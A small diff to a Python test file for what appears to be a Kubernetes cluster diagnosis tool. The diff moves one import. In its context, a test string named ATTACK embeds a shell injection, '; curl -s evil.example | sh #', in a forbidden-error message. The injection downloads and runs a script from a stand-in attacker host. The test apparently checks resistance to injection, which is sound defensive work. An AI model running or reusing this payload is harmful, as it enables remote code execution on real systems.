@@ -13,7 +13,8 @@ import pytest
 from clusters.checks import CheckSpec, Finding, Level
 from clusters.observation import Snapshot, load
 from suites.plugin import diagnose
-from tests.unit.diagnosis.test_observations import FOLDER, judged
+from tests.unit.diagnosis.recorded import FOLDER
+from tests.unit.diagnosis.test_observations import judged
 
 ATTACK = (
     'x is forbidden: User "system:serviceaccount:metallb-system:controller; curl -s evil.example | sh #" '
